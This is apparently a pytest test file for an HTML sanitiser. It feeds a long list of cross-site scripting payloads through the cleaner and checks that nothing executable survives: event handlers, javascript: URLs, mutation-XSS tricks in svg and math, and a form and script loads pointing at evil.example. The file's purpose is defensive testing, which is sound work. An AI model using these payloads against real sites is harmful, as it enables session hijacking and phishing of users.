"""Other people's HTML: what runs is gone, what says something stays."""

from html.parser import HTMLParser

import pytest

from toolkit.posts import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example" target=_blank onclick=alert(1)>x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<img srcset="https://evil.example/x 1x">',
    "<img src=https://evil.example/pixel.gif>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    '<table background="https://evil.example/x"><td background=x>x</table>',
    "<a ping=https://evil.example href=https://honest.example>x</a>",
    '<p id="main" name="cookie">x</p>',
    '<a id=location name=location href="#x">x</a>',
    "<isindex action=javascript:alert(1)>",
    "<portal src=https://evil.example></portal>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    "\x00<scri\x00pt>alert(1)</scri\x00pt>",
]
SWALLOWING = ["<!--", "<textarea>", "<title>", "<plaintext>", "<style>", "<script>", "<xmp>",
              "<iframe>", "<noscript>", "<noembed>", "<noframes>", "<select>", "<template>",
              "<svg><style>", "<math><mtext>", "<table><tr>", "<a href='", "<b title=\"",
              "</div></section></main></body></html>"]  # fmt: skip
_EVENTS = ("on", "style", "srcdoc", "srcset", "formaction", "action", "ping", "target", "name",
           "background", "xlink", "http-equiv", "data")  # fmt: skip
_BAD = {"script", "style", "svg", "iframe", "object", "embed", "form", "input", "button", "base",
        "meta", "link", "template", "annotation-xml", "mglyph", "video", "audio", "title",
        "textarea", "xmp", "noscript", "plaintext", "select", "body", "html"}  # fmt: skip


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def _cleaned(html: str) -> str:
    return clean.whole(clean.fragment(html, lambda address: None, clean.safe_link))


def _seen(html: str) -> _Seen:
    seen = _Seen()
    seen.feed(html)
    return seen


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_passes_and_the_words_around_it_stay(html: str) -> None:
    made = _cleaned(f"<p>before</p>{html}<p>after <b>all</b></p>")
    seen = _seen(made)
    assert not {tag for tag, _ in seen.tags} & _BAD
    for _, attributes in seen.tags:
        assert not [name for name in attributes if name.startswith(_EVENTS)]
        for name in ("src", "href"):
            value = attributes.get(name) or "#"
            assert value.startswith(("#", "https://honest.example", "https://evil.example"))
        assert "evil" not in (attributes.get("src") or "")
        assert (attributes.get("id") or clean.PREFIX).startswith(clean.PREFIX)
    assert "before" in seen.words


@pytest.mark.parametrize("html", HOSTILE + SWALLOWING)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = _cleaned(html)
    assert clean.whole(once) == once


@pytest.mark.parametrize("html", SWALLOWING)
def test_a_piece_that_is_never_closed_takes_nothing_of_what_follows(html: str) -> None:
    piece = clean.fragment(html, lambda address: None, clean.safe_link)
    made = clean.whole(f"<div>{piece}</div><p>after</p>")
    assert made.endswith("<p>after</p>")


def test_links_say_what_they_are_to_search_engines_and_other_sites() -> None:
    assert _cleaned('<a href="https://a.example/?a=1&amp;b=2">x</a>') == (
        f'<a href="https://a.example/?a=1&amp;b=2" rel="{clean.REL}">x</a>'
    )


def test_ids_and_links_to_them_get_the_same_prefix() -> None:
    made = _cleaned('<h3 id="My Result">x</h3><a href="#My-Result">y</a>')
    assert 'id="to-my-result"' in made
    assert 'href="#to-my-result"' in made


def test_a_title_of_someones_html_does_not_compete_with_the_pages_own() -> None:
    assert _cleaned("<h1>x</h1>") == "<h2>x</h2>"


def test_classes_of_the_site_cannot_be_borrowed() -> None:
    assert _cleaned('<p class="site-header note skip">x</p>') == '<p class="note">x</p>'


def test_formulas_and_tables_pass_whole() -> None:
    maths = '<math display="block"><mfrac><mi>a</mi><mi>b</mi></mfrac></math>'
    assert _cleaned(maths) == maths
    table = '<table class="dataframe"><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
    assert _cleaned(table) == table


def test_a_filter_that_fails_lets_nothing_through() -> None:
    def fails(address: str) -> str | None:
        raise ValueError

    made = clean.fragment('<a href="https://a.example"><img src="x.png" alt="y"></a>', fails, fails)
    note = '<span class="note">[Picture that cannot be shown: y]</span>'
    assert made == f'<a rel="{clean.REL}">{note}</a>'
